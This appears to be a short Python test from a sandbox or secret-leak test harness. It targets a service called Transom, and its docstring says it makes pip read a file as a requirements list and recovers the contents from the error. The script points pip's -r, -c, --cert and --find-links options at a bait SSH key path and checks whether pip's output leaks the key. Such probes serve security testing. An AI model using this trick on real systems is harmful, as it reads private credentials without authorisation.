"""Has Transom read a file for it, as if it were a list of requirements, and takes the content from the error."""

import subprocess
import sys

from attack import BAIT, attack, every, is_secret, told


def ask(arguments):
    done = subprocess.run(
        [sys.executable, "-m", "pip", "install", "--no-index", *arguments],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
    )
    return told("what pip said", done.stdout) if is_secret(done.stdout) else ""


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    key = BAIT["ssh_key"]
    return every(ask, [["-r", key], ["-c", key, "x"], ["--cert", key, "-r", key], [f"--find-links={key}", "x"]])
